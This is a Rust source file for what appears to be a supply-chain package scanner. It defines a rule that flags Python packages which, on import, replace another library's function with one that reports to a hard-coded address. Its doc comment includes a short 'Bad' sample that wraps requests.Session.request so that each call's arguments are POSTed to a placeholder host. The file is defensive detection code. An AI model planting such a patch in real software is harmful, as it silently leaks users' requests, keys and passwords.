//! ## What it detects
//!
//! A function of another library that is replaced, on import, by one which sends something to an address of its own.
//!
//! ## Why it is bad
//!
//! Every program that uses the library reports to the address then: its requests, keys and passwords.
//!
//! ## Innocent lookalikes
//!
//! Instrumentation replaces functions too; it hands what it sees to a client that the user has configured, and carries no address.
//!
//! ## Bad
//!
//! ```python x/__init__.py
//! import requests
//! send = requests.Session.request
//! def request(self, method, url, **given):
//!     send(self, 'POST', 'http://x.example.invalid/', json=given)
//!     return send(self, method, url, **given)
//! requests.Session.request = request
//! ```
//!
//! ## Good
//!
//! ```python x/__init__.py
//! import requests
//! send = requests.Session.request
//! def request(self, method, url, **given):
//!     print(method, url)
//!     return send(self, method, url, **given)
//! requests.Session.request = request
//! ```
//!
//! ## Good
//!
//! ```python x/__init__.py
//! import argparse, requests
//! def names(prefix, **given):
//!     return requests.get('http://x.example.invalid/?q=' + prefix).json()
//! parser = argparse.ArgumentParser()
//! parser.add_argument('--who').completer = names
//! ```

use fondaco_python::{Api, Call};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("patched-library"),
    title: "replaces a function of another library by one that reports",
    severity: Severity::High,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 1.8,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls().filter(|(_, call)| call.api == Some(Api::Patch)) {
        let replacement = call.args.first().and_then(|function| function.name.as_deref()).unwrap_or_default();
        // What a function of another module of the package has made.
        let made_by = replacement.strip_suffix("()");
        let replacement = made_by.unwrap_or(replacement);
        let is_within = |function: &str| {
            function.strip_prefix(replacement).is_some_and(|rest| rest.is_empty() || rest.starts_with('.'))
        };
        let reports = |sent: &&Call| {
            let acts = matches!(sent.api, Some(Api::NetworkSend | Api::NetworkFetch));
            let told = || sent.texts().iter().any(|text| is_address(text));
            !replacement.is_empty() && is_within(&sent.function) && (acts && told() || asks_for_a_name(sent) || connects(sent))
        };
        let within = || match made_by {
            Some(_) => package.calls().any(|(_, sent)| reports(&sent)),
            None => unit.calls.iter().any(|sent| reports(&sent)),
        };
        // Of a module that a hook was handed: whoever asked for the hook did not ask for this.
        let is_hooked = || call.callee.starts_with("?.") && call.trigger.is_some();
        // `parser.add_argument('--who').completer = ask`: of a thing of one's own, nothing is replaced for others.
        let maker = call.callee.split_once("().").and_then(|(maker, _)| maker.rsplit('.').next());
        let is_own = maker.is_some_and(|class| class.starts_with(|c: char| c.is_ascii_uppercase()));
        if (call.trigger.is_some_and(Trigger::is_unasked) || is_hooked()) && !is_own && within() {
            hits.call(unit, call, format!("{} is replaced by what reports", call.callee));
        }
    }
}

fn is_address(text: &str) -> bool {
    text.starts_with("http://") || text.starts_with("https://")
}

/// A connection to a host that is written in the code.
pub(super) fn connects(call: &Call) -> bool {
    let is_host = |text: &str| {
        let is_name = |text: &str| text.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-'));
        text.contains('.') && is_name(text) && !text.starts_with("127.") && text != "0.0.0.0"
    };
    let opens = call.callee == "socket.create_connection" || call.callee == "socket.socket().connect";
    opens && call.texts().into_iter().any(is_host)
}

/// A look-up of a host whose name was put together: what stands in it reaches whoever answers for the domain.
pub(super) fn asks_for_a_name(call: &Call) -> bool {
    let looks_up = matches!(call.callee.as_str(), "socket.gethostbyname" | "socket.getaddrinfo");
    looks_up && call.args.first().is_some_and(|host| {
        host.constant.is_none() && host.fragments().iter().any(|part| part.trim_matches('.').contains('.'))
    })
}
